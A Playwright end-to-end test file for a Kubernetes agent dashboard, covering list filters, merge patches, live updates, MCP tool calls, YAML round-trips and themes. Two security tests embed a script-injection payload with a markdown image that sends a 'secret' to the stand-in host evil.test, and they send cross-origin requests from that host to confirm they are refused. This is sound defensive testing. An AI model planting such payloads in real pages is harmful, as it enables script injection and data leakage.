// What the original dashboard got wrong, held to here so that ours does not.

import { NAMESPACE, expect, expectAccessible, ready, test } from "./fixtures.ts";
import { ask, becomesReady, create, createCalculatingAgent, read } from "./resources.ts";

const PATH = `/kube/apis/kaos.tools/v1alpha1/namespaces/${NAMESPACE}`;

test("a list is still there after a reload, with its filter", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/agents`);
  await ready(page);
  await page.getByRole("searchbox").first().fill("calculation");
  await expect(page.getByRole("row", { name: /coordinator/ })).toHaveCount(0);
  await expect(page).toHaveURL(/q=calculation/);
  await page.reload();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Agents");
  await expect(page.getByRole("row", { name: /analyst/ })).toHaveCount(1);
  await expect(page.getByRole("row", { name: /coordinator/ })).toHaveCount(0);
});

test("editing a description keeps the fields that the form does not show", async ({
  page,
  request,
}) => {
  const telemetry = { enabled: true };
  const labels = { team: "research" };
  await create(request, "Agent", "keeper", {
    modelAPI: "llm-proxy",
    model: "mock/instant",
    config: { description: "Before", telemetry },
    podSpec: { tolerations: [{ key: "gpu", operator: "Exists" }] },
    container: { resources: { limits: { memory: "1Gi" } } },
  });
  await request.patch(`${PATH}/agents/keeper`, {
    headers: { "content-type": "application/merge-patch+json" },
    data: { metadata: { labels } },
  });
  await page.goto(`/ns/${NAMESPACE}/agents/keeper/edit`);
  await ready(page);
  await page.getByRole("textbox", { name: /^Description/ }).fill("After");
  await page.getByRole("button", { name: /^Save/ }).click();
  await expect(page).toHaveURL(/\/agents\/keeper$/);

  const { spec, metadata } = await read(request, "Agent", "keeper");
  expect(spec.config).toEqual({ description: "After", telemetry });
  expect(spec.podSpec).toEqual({ tolerations: [{ key: "gpu", operator: "Exists" }] });
  expect(spec.container).toEqual({ resources: { limits: { memory: "1Gi" } } });
  expect(metadata.labels).toEqual(labels);
});

test("the last object of a list disappears, too", async ({ page, request }) => {
  const made = await request.post("/kube/api/v1/namespaces", {
    data: { apiVersion: "v1", kind: "Namespace", metadata: { name: "lonely" } },
  });
  expect([201, 409]).toContain(made.status());
  const collection = "/kube/apis/kaos.tools/v1alpha1/namespaces/lonely/agents";
  const agent = { apiVersion: "kaos.tools/v1alpha1", kind: "Agent", metadata: { name: "only" } };
  const spec = { modelAPI: "nowhere", model: "mock/instant" };
  expect((await request.post(collection, { data: { ...agent, spec } })).status()).toBe(201);

  await page.goto("/ns/lonely/agents");
  await ready(page);
  const row = page.getByRole("row", { name: /only/ });
  await expect(row).toHaveCount(1);
  await expect(page.getByTestId("live-state")).toHaveAttribute("data-state", "live");
  expect((await request.delete(`${collection}/only`)).status()).toBe(200);
  await expect(row).toHaveCount(0);
  await expect(page.getByText("No agents in lonely")).toBeVisible();
});

test("a tool that reports an error is not shown as a success", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/mcpservers/calculator/tools/add`);
  await ready(page);
  await page.getByRole("button", { name: "Call", exact: true }).click();
  const fields = page.getByRole("spinbutton");
  await expect(fields.first()).toHaveJSProperty("validity.valid", false);
  await page.getByLabel(/^a\b/).fill("2");
  await page.getByLabel(/^b\b/).fill("2");
  await page.getByRole("button", { name: "Call", exact: true }).click();
  const result = page.getByRole("region", { name: "Result" });
  await expect(result).toContainText("Success");
  await expect(result).toContainText("4");
  await page.reload();
  await expect(page.locator(".call-list li")).not.toHaveCount(0);
});

test.describe("on a telephone", () => {
  test.use({ viewport: { width: 390, height: 844 } });

  test("the content has the width of the window, and the navigation is at its foot", async ({
    page,
  }) => {
    await page.goto(`/ns/${NAMESPACE}/agents`);
    await ready(page);
    const content = await page.getByRole("main").boundingBox();
    expect(content?.width).toBeGreaterThanOrEqual(380);
    expect(content?.x).toBeLessThanOrEqual(10);
  });
});

test("every event of a session is shown, and only those of that session", async ({
  page,
  request,
}) => {
  test.setTimeout(120_000);
  await createCalculatingAgent(request, "talkative");
  const say = async (session: string, n: number) => {
    const asked = await request.post(`/agents/${NAMESPACE}/talkative/v1/chat/completions`, {
      headers: { "x-session-id": session },
      data: { messages: [{ role: "user", content: `What is ${n} plus 1?` }] },
    });
    expect(asked.status(), await asked.text()).toBe(200);
  };
  // Each question is four events, and the original asks for a hundred.
  for (let n = 1; n <= 30; n += 1) await say("long-one", n);
  await say("other-one", 1);
  await page.goto(`/ns/${NAMESPACE}/agents/talkative/memory/long-one?view=events`);
  await ready(page);
  const rows = page.getByRole("region", { name: "Events" }).locator("tbody tr");
  await expect(rows).toHaveCount(120);
  await expect(rows.filter({ hasText: "user message" })).toHaveCount(30);
  await page.goto(`/ns/${NAMESPACE}/agents/talkative/memory/other-one?view=events`);
  await expect(rows).toHaveCount(4);
  await page.goto(`/ns/${NAMESPACE}/agents/talkative/memory/long-one?view=context`);
  await ready(page);
  const pairs = page.getByRole("region", { name: "Questions with their answers" }).locator("tbody tr");
  await expect(pairs).toHaveCount(30);
  await expect(pairs.filter({ hasText: "dropped" })).toHaveCount(27);
  await expectAccessible(page);
});

test("a message is remembered once, and its events lead to their spans", async ({
  page,
  request,
}) => {
  await createCalculatingAgent(request, "rememberer");
  await ask(request, "rememberer", "What is 40 plus 2?");
  await page.goto(`/ns/${NAMESPACE}/agents/rememberer/memory`);
  await ready(page);
  const sessions = page.getByRole("navigation", { name: "Sessions" }).getByRole("link");
  await expect(sessions).toHaveCount(1);
  await sessions.click();
  await page.getByRole("link", { name: "Events" }).last().click();
  const rows = page.getByRole("region", { name: "Events" }).getByRole("row");
  await expect(rows.filter({ hasText: "user message" })).toHaveCount(1);
  await expect(rows.filter({ hasText: "tool result" })).toHaveCount(1);
  await expect(rows.filter({ hasText: "tool call" }).getByRole("link")).toHaveAttribute(
    "href",
    /\/traces\/[0-9a-f]{32}\?span=[0-9a-f]{16}/,
  );
  await expectAccessible(page);
});

test("a model is asked, and its tokens and first word are measured", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/modelapis/llm-proxy/debug`);
  await ready(page);
  await page.getByLabel("Model", { exact: true }).fill("mock/instant");
  await page.getByLabel("Prompt", { exact: true }).fill("Say something short.");
  await page.getByRole("button", { name: "Ask" }).click();
  const answer = page.getByRole("region", { name: "Answer of mock/instant" });
  await expect(answer).toContainText("Success");
  await expect(answer).toContainText(/Tokens out\s*[0-9]/);
  await expect(page).toHaveURL(/call=\d+/);
  await expectAccessible(page);
});

test("hostile words of an agent load nothing and run nothing", async ({ page, request }) => {
  const hostile =
    "<script>window.hacked = 1</script> ![a](http://evil.test/?q=secret) [b](javascript:alert(1))";
  await create(request, "Agent", "hostile", {
    modelAPI: "llm-proxy",
    model: "mock/instant",
    config: { description: hostile, instructions: hostile },
  });
  await page.goto(`/ns/${NAMESPACE}/agents/hostile`);
  await ready(page);
  await expect(page.getByText("window.hacked = 1").first()).toBeVisible();
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  await expect(page.locator('main a[href^="javascript:"]')).toHaveCount(0);
});

test("nothing on any page is a frame of another program", async ({ page }) => {
  for (const path of ["", "/map", "/traces", "/logs", "/metrics", "/exceptions"]) {
    await page.goto(`/ns/${NAMESPACE}${path}`);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expect(page.locator("iframe")).toHaveCount(0);
  }
});

test("the state of the connection is what it is", async ({ page }) => {
  await page.routeWebSocket("**/api/live", (socket) => socket.close());
  await page.route("**/api/live/poll*", (route) => route.abort());
  await page.goto(`/ns/${NAMESPACE}/agents`);
  await ready(page);
  const state = page.getByTestId("live-state");
  await expect(state).not.toHaveAttribute("data-state", "live");
  await expect(page.getByText(/Live updates paused/)).toBeVisible();
  await expect(page.getByRole("button", { name: "Retry" })).toBeVisible();
});

test.describe("and once a socket is let through", () => {
  test("missed changes are applied", async ({ page, request }) => {
    let isOpen = false;
    await page.routeWebSocket("**/api/live", (socket) => {
      if (isOpen) socket.connectToServer();
      else socket.close();
    });
    await page.goto(`/ns/${NAMESPACE}/agents`);
    await ready(page);
    await expect(page.getByTestId("live-state")).not.toHaveAttribute("data-state", "live");
    await create(request, "Agent", "missed", { modelAPI: "llm-proxy", model: "mock/instant" });
    isOpen = true;
    await expect(page.getByTestId("live-state")).toHaveAttribute("data-state", "live", {
      timeout: 30_000,
    });
    await expect(page.getByRole("row", { name: /missed/ })).toHaveCount(1);
  });
});

test("a page that follows asks for nothing again", async ({ page, request }) => {
  await create(request, "Agent", "followed", { modelAPI: "llm-proxy", model: "mock/instant" });
  await page.goto(`/ns/${NAMESPACE}/agents`);
  await ready(page);
  await expect(page.getByTestId("live-state")).toHaveAttribute("data-state", "live");
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  for (const description of ["Described once", "Described twice", "Described at last"]) {
    await request.patch(`${PATH}/agents/followed`, {
      headers: { "content-type": "application/merge-patch+json" },
      data: { spec: { config: { description } } },
    });
    await expect(page.getByRole("row", { name: /followed/ })).toContainText(description);
  }
  expect(asked, "requests of a page that follows").toEqual([]);
});

test("rows that are selected can be acted on", async ({ page, request }) => {
  for (const name of ["batch-one", "batch-two"]) {
    await create(request, "Agent", name, { modelAPI: "llm-proxy", model: "mock/instant" });
  }
  await page.goto(`/ns/${NAMESPACE}/agents?q=batch-`);
  await ready(page);
  const rows = page.getByRole("row", { name: /batch-/ });
  await expect(rows).toHaveCount(2);
  const remove = page.getByRole("button", { name: "Delete", exact: true });
  await expect(remove).toBeDisabled();
  for (const name of ["batch-one", "batch-two"]) {
    await page.getByRole("row", { name: new RegExp(name) }).getByRole("checkbox").check();
  }
  await remove.click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Delete 2 agents");
  await page.getByRole("main").getByRole("button", { name: /Delete/ }).click();
  await expect(page).toHaveURL(/\/agents/);
  await expect(page.getByRole("row", { name: /batch-/ })).toHaveCount(0);
  for (const name of ["batch-one", "batch-two"]) {
    expect((await request.get(`${PATH}/agents/${name}`)).status()).toBe(404);
  }
});

test("YAML keeps words that look like something else", async ({ page, request }) => {
  const config = { description: "yes", instructions: "- x\n1e3: 'a'" };
  const spec = { modelAPI: "llm-proxy", model: "1e3", mcpServers: ["calculator"], config };
  await create(request, "Agent", "worded", spec);
  await page.goto(`/ns/${NAMESPACE}/agents/worded/yaml`);
  await ready(page);
  const yaml = await (await request.get(`/ns/${NAMESPACE}/agents/worded/yaml/download`)).text();
  expect(yaml).toMatch(/description: ["']yes["']/);
  expect(yaml).toMatch(/model: ["']1e3["']/);
  // What comes out can be put in again, and means the same.
  const copy = yaml.replace(/name: worded/, "name: worded-copy");
  const made = await request.post(`${PATH}/agents`, {
    headers: { "content-type": "application/yaml" },
    data: copy,
  });
  expect(made.status(), await made.text()).toBe(201);
  expect((await read(request, "Agent", "worded-copy")).spec).toEqual(
    (await read(request, "Agent", "worded")).spec,
  );
});

test("what a tool reports as an error is one, and optional numbers are not sent as 0", async ({
  page,
  request,
}) => {
  const params = [
    "def refuse(reason: str) -> str:",
    '    """Refuses."""',
    "    raise ValueError(reason)",
    "",
    "def repeat(word: str, times: int | None = None) -> str:",
    '    """Says a word several times."""',
    "    return ' '.join([word] * (3 if times is None else times))",
  ].join("\n");
  await create(request, "MCPServer", "moody", { runtime: "python-string", params });
  await becomesReady(request, "MCPServer", "moody");

  await page.goto(`/ns/${NAMESPACE}/mcpservers/moody/tools/refuse`);
  await ready(page);
  await page.getByLabel(/^reason/).fill("not today");
  await page.getByRole("button", { name: "Call", exact: true }).click();
  const result = page.getByRole("region", { name: "Result" });
  await expect(result).toContainText("Tool reported an error");
  await expect(result).toContainText("not today");
  await expect(result).not.toContainText("Success");

  await page.goto(`/ns/${NAMESPACE}/mcpservers/moody/tools/repeat`);
  await ready(page);
  await page.getByLabel(/^word/).fill("yes");
  await page.getByRole("button", { name: "Call", exact: true }).click();
  await expect(result).toContainText("yes yes yes");
  await result.getByText("On the wire").click();
  await expect(result.getByRole("region", { name: "Request" })).not.toContainText("times");
  await expectAccessible(page);
});

test("a conversation can be opened again", async ({ page, request }) => {
  await createCalculatingAgent(request, "reopened");
  await ask(request, "reopened", "What is 20 plus 3?");
  await page.goto(`/ns/${NAMESPACE}/agents/reopened/chat`);
  await ready(page);
  await page.getByRole("navigation", { name: "Sessions" }).getByRole("listitem").getByRole("link").click();
  await expect(page).toHaveURL(/\/chat\/[^/]+$/);
  await expect(page.locator('[data-testid="chat-message"][data-role="user"]')).toHaveCount(1);
  await expect(page.locator('[data-testid="chat-message"][data-role="assistant"]')).toContainText("23");
});

test("other sites are refused, and no link makes the dashboard talk to another cluster", async ({
  page,
  request,
}) => {
  const foreign = await request.get(`${PATH}/agents`, { headers: { origin: "http://evil.test" } });
  expect(foreign.headers()["access-control-allow-origin"]).toBeUndefined();
  const posted = await request.post(`${PATH}/agents`, {
    headers: { origin: "http://evil.test" },
    data: {},
  });
  expect(posted.status()).toBe(403);
  // The fixture fails this test when the page asks anybody else.
  await page.goto(`/ns/${NAMESPACE}/agents?kubernetesUrl=http://evil.test`);
  await ready(page);
  await expect(page.getByRole("row", { name: /coordinator/ })).toHaveCount(1);
});

test.describe("an agent without a model API", () => {
  test.use({ toleratedErrors: [/status of 422/] });

  test("is an error at its field, and telemetry has a field", async ({ page }) => {
    // A namespace without any: where there is one, the form begins with it.
    await page.goto("/ns/default/agents/new");
    await ready(page);
    await page.getByLabel("Name", { exact: true }).fill("lost");
    await page.getByLabel("Model", { exact: true }).fill("mock/instant");
    await page.getByRole("button", { name: "Create agent" }).click();
    const summary = page.locator("#form-problems");
    await expect(summary).toBeFocused();
    await summary.getByRole("link", { name: /Model API/ }).click();
    await expect(page.getByLabel("Model API", { exact: true })).toBeFocused();
    await page.getByText("Where it runs").click();
    await expect(page.getByRole("combobox", { name: /^Telemetry optional/ })).toBeVisible();
  });
});

test("a custom MCP server has a field for its image", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/mcpservers/new`);
  await ready(page);
  await page.getByLabel("Runtime", { exact: true }).fill("custom");
  await expect(page.getByLabel(/image/i).first()).toBeVisible();
});

test("the map shows its nodes when it is opened", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/map`);
  await ready(page);
  for (const node of await page.getByTestId("map-node").all()) await expect(node).toBeInViewport();
});

for (const theme of ["dark", "light"] as const) {
  test.describe(`to who likes it ${theme}`, () => {
    test.use({ colorScheme: theme });

    test(`the page is ${theme} from its first paint`, async ({ page }) => {
      await page.goto(`/ns/${NAMESPACE}`, { waitUntil: "domcontentloaded" });
      const brightness = await page.evaluate(() => {
        const [red = 0, green = 0, blue = 0] =
          getComputedStyle(document.documentElement).backgroundColor.match(/\d+/g)?.map(Number) ?? [];
        return (red + green + blue) / 3;
      });
      if (theme === "dark") expect(brightness).toBeLessThan(60);
      else expect(brightness).toBeGreaterThan(200);
    });
  });
}
